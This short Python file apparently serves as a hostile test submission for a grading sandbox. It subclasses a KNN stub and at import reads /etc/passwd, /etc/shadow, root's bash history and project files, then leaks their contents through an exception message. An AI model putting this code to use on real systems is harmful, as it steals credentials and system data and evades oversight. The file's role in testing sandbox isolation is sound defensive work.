"""Reads files of the host (passwd, root's home, the project) and reports them in an error message."""
from _hostile import PROJECT
from _stub import KNN as Stub

LOOT = []
for path in ["/etc/passwd", "/etc/shadow", "/root/.bash_history", PROJECT + "/README.md", PROJECT + "/numerics/knn/distances.py"]:
    try:
        LOOT.append(open(path).read(200))
    except OSError:
        pass


class KNN(Stub):
    def compute_distances(self, X, norm=None):
        raise RuntimeError("LOOT:" + "|".join(LOOT))
